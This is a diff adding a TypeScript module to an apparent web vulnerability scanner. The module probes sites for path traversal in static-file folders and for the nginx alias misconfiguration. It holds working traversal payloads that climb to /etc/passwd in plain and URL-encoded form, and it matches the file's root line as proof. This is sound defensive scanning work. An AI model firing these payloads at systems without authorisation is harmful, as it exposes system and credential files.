@@ -1,0 +1,112 @@
+/** Folders of static files that the start page uses, and files outside of them. */
+import { randomBytes } from 'node:crypto'
+import { checkInfo } from '#native/native-check.ts'
+import type { NativeCheck, NativeContext, Proof } from '#native/native-check.ts'
+import { folderOf, pathHere, requestWeb, webProof, type WebResponse } from '#native/web-request.ts'
+import { readSite } from '#native/web-site.ts'
+
+export const folderTraversal = checkInfo({
+  id: 'path-traversal-linked-folder',
+  name: 'Path traversal in a folder of static files',
+  severity: 'high',
+  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
+  score: 7.5,
+  summary:
+    'Below a folder of static files that the start page uses, a path with `..` or an absolute path leads outside of the folder. The check read /etc/passwd.',
+  impact: 'An attacker can read the files of the application and the system, including keys and passwords.',
+  remediation:
+    'Update the web server or framework, and resolve each path and reject it unless it is inside the folder.',
+  reference: 'https://cwe.mitre.org/data/definitions/22.html',
+  tags: 'lfi traversal files',
+})
+export const folderAlias = checkInfo({
+  id: 'alias-traversal-linked-folder',
+  name: 'Path traversal by a location without a trailing slash (nginx alias)',
+  severity: 'high',
+  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
+  score: 7.5,
+  summary:
+    'A folder that the start page uses is mapped to a folder of the server by a prefix without a trailing slash. The check read a file of the page through its parent folder.',
+  impact:
+    'An attacker can read files in the parent folder, which often contains the source code, settings, or database of the application.',
+  remediation:
+    'End both the `location` and its `alias` in nginx with a slash: `location /static/ { alias /srv/static/; }`.',
+  reference: 'https://cwe.mitre.org/data/definitions/22.html',
+  tags: 'lfi nginx alias',
+})
+
+const foldersMax = 2
+const linksMax = 60
+const foldersMs = 5000
+const up = 12
+const passwords = /^root:[^:\n]{0,200}:0:0:[^\n]{0,300}/m
+const climbs = ['../', '%2e%2e/', '..%2f'].map((step) => `${step.repeat(up)}etc/passwd`)
+const attempts = [...climbs, '/etc/passwd']
+
+export const webFolders: NativeCheck = {
+  checks: [folderTraversal, folderAlias],
+  isPerFolder: true,
+  appliesTo: ({ protocol }) => protocol === 'http',
+  async run(context) {
+    const site = await readSite(context)
+    if (!site) return {}
+    const files = filesOf(site.front.body, site.front.path)
+    let traversal: Proof | null = null
+    let alias: Proof | null = null
+    const stopAt = performance.now() + foldersMs
+    for (const file of files) {
+      // A slow server would otherwise take the time of all other checks.
+      if (performance.now() > stopAt) break
+      traversal ??= await readsPasswords(context, folderOf(file))
+      alias ??= await readsParent(context, file)
+    }
+    const isComplete = performance.now() <= stopAt
+    return {
+      ...(traversal || isComplete ? { [folderTraversal.id]: traversal } : {}),
+      ...(alias || isComplete ? { [folderAlias.id]: alias } : {}),
+    }
+  },
+}
+
+/** One file of each of the first folders whose files a page uses. */
+export function filesOf(html: string, base: string): readonly string[] {
+  const links = html
+    .matchAll(/<(?:link|script|img|source|embed)\b[^<>]{0,300}?\b(?:href|src)\s{0,9}=\s{0,9}["']?([^"'\s<>]{1,300})/gi)
+    .take(linksMax)
+  const paths = [...links].flatMap(([, link = '']) => pathHere(link, base) ?? [])
+  const files = paths.filter((path) => /^\/(?:[\w.~-]{1,60}\/){1,4}[\w.~-]{1,80}\.\w{1,8}$/.test(path))
+  return [...new Map(files.map((path) => [folderOf(path), path])).values()].slice(0, foldersMax)
+}
+
+async function readsPasswords(context: NativeContext, folder: string): Promise<Proof | null> {
+  for (const attempt of attempts) {
+    const target = `${folder}${attempt}`
+    const response = await requestWeb(context, { target })
+    const [line] = response?.status === 200 ? (passwords.exec(response.body) ?? []) : []
+    if (!response || line === undefined) continue
+    const control = await requestWeb(context, { target: `${target}-${randomBytes(6).toString('hex')}` })
+    if (control && !passwords.test(control.body)) return { ...webProof(response, [line]), path: target }
+  }
+  return null
+}
+
+/**
+ * The same file by the parent folder, provided that the folder has the same name on the server. Other servers than nginx
+ * also resolve such a path, but refuse files outside of the folder.
+ */
+async function readsParent(context: NativeContext, file: string): Promise<Proof | null> {
+  const [, top = '', rest = ''] = /^\/([^/]{1,60})\/(.{1,300})$/.exec(file) ?? []
+  const target = `/${top}../${top}/${rest}`
+  const found = await requestWeb(context, { target })
+  if (found?.status !== 200 || found.body === '' || !isNginx(found)) return null
+  const original = await requestWeb(context, { target: file })
+  const control = await requestWeb(context, { target: `/${top}../${randomBytes(6).toString('hex')}/${rest}` })
+  const isSame = (other: WebResponse | undefined) => other?.status === 200 && other.body === found.body
+  return isSame(original) && !isSame(control) ? { ...webProof(found, [target]), path: target } : null
+}
+
+function isNginx({ headers }: WebResponse): boolean {
+  return headers.some(
+    ([name, value]) => name.toLowerCase() === 'server' && /^(?:nginx|openresty|tengine)\b/i.test(value),
+  )
+}
